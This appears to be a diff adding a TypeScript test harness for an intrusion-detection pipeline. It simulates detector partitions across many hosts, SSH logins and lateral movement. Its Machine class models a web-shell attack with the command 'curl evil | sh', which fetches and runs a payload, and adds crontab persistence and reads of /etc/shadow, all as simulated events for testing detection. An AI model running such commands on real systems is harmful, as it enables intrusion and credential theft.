@@ -1,0 +1,168 @@
+import type { InRecord, OutRecord } from '@ringfence/bus';
+import { decode, type Incident, TOPIC } from '@ringfence/schema';
+import { createTestHost, O, type TestHost, type TestProcess } from '@ringfence/testkit';
+import { createEdgePipeline, type DetectorOptions, type DetectorPipeline, type EdgePipeline } from '../src/index.ts';
+import { createStats } from '../src/metrics.ts';
+import { createFeed, createTestDetector, RULES, TestStore } from './support.ts';
+
+/** One partition of a service: what it is fed, and its memory with a store that survives it. */
+interface Stage {
+  readonly make: () => DetectorPipeline | EdgePipeline;
+  readonly queues: Map<string, InRecord[]>;
+  readonly store: TestStore;
+  work: DetectorPipeline | EdgePipeline;
+}
+
+/** Which of so many comes next. */
+export type Choose = (count: number) => number;
+const first: Choose = () => 0;
+
+export interface FleetOptions extends DetectorOptions {
+  /** a pause for thought: the stage about to work is restarted from its store when it says so */
+  readonly restarts?: () => boolean;
+  /** the record about to be handled comes twice when it says so */
+  readonly repeats?: () => boolean;
+  readonly rules?: string;
+}
+
+/** Detectors of many hosts, each a partition of its own, and the second stage: topics are queues, and who is next is the caller's choice. */
+export class TestFleet {
+  readonly outputs: OutRecord[] = [];
+  readonly #stages: Stage[] = [];
+  readonly #options: FleetOptions;
+  readonly #byHost = new Map<string, Stage>();
+  readonly #edges: Stage;
+  readonly #offsets = new Map<string, number>();
+
+  constructor(options: FleetOptions = {}) {
+    this.#options = options;
+    this.#edges = this.#add(() => createEdgePipeline({ stats: createStats() }));
+  }
+
+  feed(host: TestHost, batches: readonly Uint8Array[]): void {
+    for (const { key, value } of createFeed(host).of(batches)) this.#route({ topic: TOPIC.events, key, value });
+  }
+
+  async run(choose: Choose = first): Promise<void> {
+    for (;;) {
+      const waiting = this.#stages.flatMap((stage) =>
+        [...stage.queues.values()].flatMap((queue) => (queue.length === 0 ? [] : [{ stage, queue }])),
+      );
+      if (waiting.length === 0) return;
+      const next = waiting[choose(waiting.length)];
+      const record = next?.queue.shift();
+      if (next === undefined || record === undefined) return;
+      await this.#work(next.stage, record);
+    }
+  }
+
+  /** The last version of each incident. */
+  get incidents(): Incident[] {
+    const all = this.outputs.filter(({ topic }) => topic === TOPIC.incidents);
+    const last = new Map(all.map(({ key, value }) => [key, decode('Incident', value ?? new Uint8Array())]));
+    return [...last.values()];
+  }
+
+  get open(): Incident[] {
+    return this.incidents.filter(({ state }) => state === 'open');
+  }
+
+  detector(host: TestHost): DetectorPipeline {
+    return this.#stageOf(host.hostId).work as DetectorPipeline;
+  }
+
+  async #work(stage: Stage, record: InRecord): Promise<void> {
+    if (this.#options.restarts?.() === true) {
+      stage.work = stage.make();
+      await stage.work.restore(stage.store.entries());
+    }
+    const effect = await stage.work.handle([record]);
+    stage.store.apply(effect);
+    for (const output of effect.outputs) {
+      this.outputs.push(output);
+      this.#route(output);
+      // A crash after the outputs and before the state: they come again.
+      if (this.#options.repeats?.() === true) this.#route(output);
+    }
+  }
+
+  #route({ topic, key, value }: OutRecord): void {
+    if (topic !== TOPIC.events && topic !== TOPIC.joins && topic !== TOPIC.edges) return;
+    const stage = topic === TOPIC.edges ? this.#edges : this.#stageOf(key);
+    const queue = stage.queues.get(topic) ?? [];
+    stage.queues.set(topic, queue);
+    const offset = this.#offsets.get(`${topic}/${key}`) ?? 0;
+    this.#offsets.set(`${topic}/${key}`, offset + 1);
+    queue.push({ topic, partition: 0, offset, key, value, timestamp: 0 });
+  }
+
+  #stageOf(hostId: string): Stage {
+    const known = this.#byHost.get(hostId);
+    if (known !== undefined) return known;
+    const { rules = RULES, restarts: _, repeats: __, ...options } = this.#options;
+    const stage = this.#add(() => createTestDetector(options, rules));
+    this.#byHost.set(hostId, stage);
+    return stage;
+  }
+
+  #add(make: () => DetectorPipeline | EdgePipeline): Stage {
+    const stage: Stage = { make, queues: new Map(), store: new TestStore(), work: make() };
+    this.#stages.push(stage);
+    return stage;
+  }
+}
+
+/** A machine with an address, an SSH server, and a clock of its own. */
+export class Machine {
+  readonly host: TestHost;
+  readonly address: string;
+  readonly sshd: TestProcess;
+
+  constructor(number: number, options: { readonly clockOffset?: number; readonly ktime?: number } = {}) {
+    const { clockOffset = 0, ktime = 3_600_000_000 } = options;
+    const hostId = `host-${number}`;
+    const wallOffset = Date.UTC(2026, 0, 1) * 1000 + 3_600_000_000 - ktime + clockOffset;
+    this.address = `10.0.0.${number}`;
+    this.host = createTestHost({ hostId, bootId: `boot-${number}`, run: BigInt(number), ktime, wallOffset });
+    this.host.snapshot(this.host.init, '/usr/lib/systemd/systemd');
+    this.sshd = this.host.spawn(this.host.init, '/usr/sbin/sshd');
+  }
+
+  /** Somebody comes in from there: the shell that they get. */
+  login(from: string, port: number): TestProcess {
+    const { host, sshd, address } = this;
+    host.accept(sshd, { address: from, port }, { address, port: 22 });
+    const session = host.spawn(sshd, '/usr/lib/openssh/sshd-session');
+    return host.spawn(host.fork(session), '/bin/bash');
+  }
+
+  /** `shell` runs ssh to there. */
+  ssh(shell: TestProcess, to: Machine, port: number): void {
+    const client = this.host.spawn(shell, '/usr/bin/ssh', ['ssh', to.address]);
+    this.host.connect(client, to.address, 22, { localAddress: this.address, localPort: port });
+  }
+
+  /** A web server was made to run a shell, which runs what it fetched. */
+  webShell(): TestProcess {
+    const { host } = this;
+    const nginx = host.spawn(host.init, '/usr/sbin/nginx');
+    const shell = host.spawn(nginx, '/bin/sh', ['sh', '-c', 'curl evil | sh']);
+    const curl = host.spawn(shell, '/usr/bin/curl');
+    host.connect(curl, '203.0.113.9', 443, { localAddress: this.address, localPort: 50_000 });
+    host.open(curl, '/tmp/x', O.WRONLY | O.CREAT);
+    host.spawn(shell, '/tmp/x');
+    return shell;
+  }
+
+  persist(shell: TestProcess): void {
+    this.host.open(shell, '/etc/crontab', O.WRONLY);
+  }
+
+  steal(shell: TestProcess): void {
+    this.host.open(shell, '/etc/shadow');
+  }
+
+  wait(us: number): void {
+    this.host.ktime += us;
+  }
+}
